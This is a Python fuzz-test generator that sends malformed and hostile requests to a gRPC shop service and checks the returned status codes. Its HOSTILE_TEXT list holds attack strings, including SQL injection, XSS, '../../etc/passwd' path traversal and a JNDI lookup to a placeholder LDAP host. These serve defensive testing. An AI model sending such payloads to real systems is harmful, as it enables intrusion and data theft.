"""Malformed and hostile ShopService requests, each with the codes that may answer it.

A case is raw request bytes for a method (sent with identity serializers), metadata, and the
set of acceptable codes. Bytes that do not parse as the request message are a malformed request
(INVALID_ARGUMENT); whether random bytes parse is decided here with the same protobuf runtime as
the server.
"""
from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import grpc
from google.protobuf import field_mask_pb2
from google.protobuf.message import DecodeError, Message

from adapters.grpc.gen.erp.v1 import shop_pb2, shop_service_pb2 as pb
from tests.unit.grpc.fake_shop_use_cases import GOOD_TOKEN

C = grpc.StatusCode
KEYS = {"admin": [("x-api-key", "admin-key-0001")], "alice": [("x-api-key", "alice-key-0001")],
        "bob": [("authorization", "Bearer bob-key-0001")]}
REQUESTS: dict[str, type[Message]] = {
    "AuthorizeShop": pb.AuthorizeShopRequest, "AddProductToken": pb.AddProductTokenRequest,
    "ReauthorizeShop": pb.ReauthorizeShopRequest, "GetShop": pb.GetShopRequest,
    "ListShops": pb.ListShopsRequest, "UpdateShop": pb.UpdateShopRequest,
    "EnableShop": pb.EnableShopRequest, "DisableShop": pb.DisableShopRequest,
}
HOSTILE_TEXT = [
    "' OR 1=1 --", "Robert'); DROP TABLE shops;--", "<script>alert(1)</script>", "../../etc/passwd",
    "%00%0d%0a", "\x00", "\u202eevil", "${jndi:ldap://x/a}", "{{7*7}}", "shops/*", "🙂" * 40,
    "a\nb", " ", "\t", "NULL", "\\", "%s%s%s%n",
]
ANSWERED_BY_US = {C.OK, C.INVALID_ARGUMENT, C.NOT_FOUND, C.PERMISSION_DENIED, C.FAILED_PRECONDITION,
                  C.UNAUTHENTICATED}


@dataclass(frozen=True)
class Case:
    kind: str
    method: str
    payload: bytes
    metadata: tuple[tuple[str, str], ...]
    allowed: frozenset[grpc.StatusCode]
    secret: str = ""

    @property
    def path(self) -> str:
        return f"/erp.v1.ShopService/{self.method}"


def _case(kind: str, request: Message, allowed: set, who: str = "alice", secret: str = "") -> Case:
    method = type(request).__name__.removesuffix("Request")
    return Case(kind, method, request.SerializeToString(), tuple(KEYS[who]), frozenset(allowed), secret)


def _raw(kind: str, rng: random.Random, payload: bytes) -> Case:
    method = rng.choice(list(REQUESTS))
    try:
        REQUESTS[method].FromString(payload)
        allowed = ANSWERED_BY_US
    except DecodeError:
        allowed = {C.INVALID_ARGUMENT}
    return Case(kind, method, payload, tuple(KEYS["admin"]), frozenset(allowed))


def random_bytes(rng: random.Random) -> Case:
    return _raw("random-bytes", rng, rng.randbytes(rng.randint(1, 64)))


def wrong_wire_types(rng: random.Random) -> Case:
    """Well-framed fields with the wrong wire type or unknown numbers."""
    out = bytearray()
    for _ in range(rng.randint(1, 4)):
        number, wire = rng.randint(1, 20), rng.choice([0, 1, 2, 5])
        out += bytes([(number << 3) | wire])
        out += {0: bytes([rng.randint(0, 127)]), 1: rng.randbytes(8), 5: rng.randbytes(4),
                2: bytes([3]) + rng.randbytes(3)}[wire]
    return _raw("wrong-types", rng, bytes(out))


def empty(rng: random.Random) -> Case:
    method = rng.choice(list(REQUESTS))
    allowed = {C.OK} if method == "ListShops" else {C.INVALID_ARGUMENT}
    return Case("empty", method, b"", tuple(KEYS["alice"]), frozenset(allowed))


def unknown_enums(rng: random.Random) -> Case:
    bad = rng.choice([rng.randint(5, 2**31 - 1), -rng.randint(1, 2**31)])
    return rng.choice([
        lambda: _case("enum", pb.AuthorizeShopRequest(display_name="X", kind=bad, region=1, token=GOOD_TOKEN),
                      {C.INVALID_ARGUMENT}),
        lambda: _case("enum", pb.AuthorizeShopRequest(display_name="X", kind=1, region=bad, token=GOOD_TOKEN),
                      {C.INVALID_ARGUMENT}),
        lambda: _case("enum", pb.ListShopsRequest(auth_status=bad), {C.INVALID_ARGUMENT}),
        lambda: _case("enum", pb.ListShopsRequest(status=bad), {C.INVALID_ARGUMENT}),
        lambda: _case("enum", pb.ReauthorizeShopRequest(shop="shops/alice-1", token_kind=bad, token="t"),
                      {C.INVALID_ARGUMENT}),
    ])()


def injected_names(rng: random.Random) -> Case:
    text = rng.choice(HOSTILE_TEXT)
    return rng.choice([
        lambda: _case("injection", pb.GetShopRequest(name=text), {C.INVALID_ARGUMENT}),
        lambda: _case("injection", pb.GetShopRequest(name=f"shops/{text}"), {C.INVALID_ARGUMENT, C.NOT_FOUND}),
        lambda: _case("injection", pb.EnableShopRequest(name=f"shops/x{text}"), {C.INVALID_ARGUMENT, C.NOT_FOUND}),
        lambda: _case("injection", pb.AuthorizeShopRequest(display_name=text, kind=1, region=1, token=GOOD_TOKEN),
                      {C.OK, C.INVALID_ARGUMENT}),
        lambda: _case("injection", pb.ListShopsRequest(name_contains=text), {C.OK}),
        lambda: _case("injection", pb.UpdateShopRequest(shop=shop_pb2.Shop(name="shops/alice-1", display_name="N"),
                                                        update_mask=field_mask_pb2.FieldMask(paths=[text])),
                      {C.INVALID_ARGUMENT}),
    ])()


def out_of_range_numbers(rng: random.Random) -> Case:
    """Every number of a request just outside its documented range, or far outside it."""
    days = rng.choice([-1, 3651, 2_930_000, 2**31 - 1, -2**31])
    version = rng.choice([-1, -2**63, 2**31, 2**63 - 1])
    return rng.choice([
        lambda: _case("range", pb.ListShopsRequest(expiring_within_days=days), {C.INVALID_ARGUMENT}),
        lambda: _case("range", pb.ListShopsRequest(page_size=rng.choice([-1, -2**31])), {C.INVALID_ARGUMENT}),
        lambda: _case("range", pb.UpdateShopRequest(shop=shop_pb2.Shop(name="shops/alice-1", display_name="N",
                                                                       etag_version=version)),
                      {C.INVALID_ARGUMENT}),
    ])()


def bad_page_tokens(rng: random.Random) -> Case:
    token = rng.choice([rng.choice(HOSTILE_TEXT), rng.randbytes(12).hex(), "x" * rng.randint(1025, 5000)])
    return _case("page-token", pb.ListShopsRequest(page_token=token, page_size=rng.randint(-5, 10**6)),
                 {C.INVALID_ARGUMENT})


def oversized_fields(rng: random.Random) -> Case:
    big = "x" * rng.randint(70_000, 300_000)
    return rng.choice([
        lambda: _case("oversized", pb.AuthorizeShopRequest(display_name=big, kind=1, region=1, token=GOOD_TOKEN),
                      {C.INVALID_ARGUMENT}),
        lambda: _case("oversized", pb.AddProductTokenRequest(shop="shops/alice-1", token=big),
                      {C.INVALID_ARGUMENT}, secret=big),
        lambda: _case("oversized", pb.GetShopRequest(name=f"shops/{big}"), {C.INVALID_ARGUMENT}),
    ])()


def secrets_and_access(rng: random.Random) -> Case:
    token = f"temu-secret-{rng.randint(10**6, 10**7)}"
    return rng.choice([
        lambda: _case("secret", pb.AuthorizeShopRequest(display_name="S", kind=1, region=1, token=token),
                      {C.FAILED_PRECONDITION}, secret=token),
        lambda: _case("secret", pb.ReauthorizeShopRequest(shop="shops/alice-1", token=token),
                      {C.FAILED_PRECONDITION}, secret=token),
        lambda: _case("access", pb.GetShopRequest(name="shops/alice-1"), {C.NOT_FOUND}, who="bob"),
        lambda: _case("access", pb.AuthorizeShopRequest(display_name="S", kind=1, region=1, token=GOOD_TOKEN,
                                                        owner="p-bob"), {C.PERMISSION_DENIED}),
        lambda: _case("request-id", pb.EnableShopRequest(name="shops/alice-1", request_id=rng.choice(HOSTILE_TEXT)),
                      {C.INVALID_ARGUMENT}),
    ])()


def bad_credentials(rng: random.Random) -> Case:
    metadata = rng.choice([(), (("x-api-key", "wrong-key"),), (("authorization", "Bearer nope"),),
                           (("authorization", "Basic YTpi"),), (("x-api-key", "k" * 300),)])
    request = pb.GetShopRequest(name="shops/alice-1")
    return Case("credentials", "GetShop", request.SerializeToString(), metadata, frozenset({C.UNAUTHENTICATED}))


def unknown_method(rng: random.Random) -> Case:
    method = rng.choice(["DeleteShop", "DropAllShops", "getShop", "GetShop/../ListShops"])
    return Case("unknown-method", method, b"", tuple(KEYS["admin"]), frozenset({C.UNIMPLEMENTED}))


def over_the_size_limit(rng: random.Random) -> Case:
    request = pb.GetShopRequest(name="shops/" + "x" * (4 * 1024 * 1024))
    return _case("over-4-mib", request, {C.RESOURCE_EXHAUSTED})


BUILDERS: list[Callable[[random.Random], Case]] = [
    random_bytes, wrong_wire_types, empty, unknown_enums, injected_names, bad_page_tokens,
    secrets_and_access, bad_credentials, out_of_range_numbers,
]


def hostile_cases(count: int, seed: int = 20261101) -> Iterator[Case]:
    """``count`` cases: every builder in turn, with rarer ones (oversized fields, unknown
    methods, messages over 4 MiB) every so often; deterministic for a seed."""
    rng = random.Random(seed)
    for i in range(count):
        if i % 500 == 499:
            yield over_the_size_limit(rng)
        elif i % 100 == 99:
            yield oversized_fields(rng)
        elif i % 100 == 98:
            yield unknown_method(rng)
        else:
            yield BUILDERS[i % len(BUILDERS)](rng)
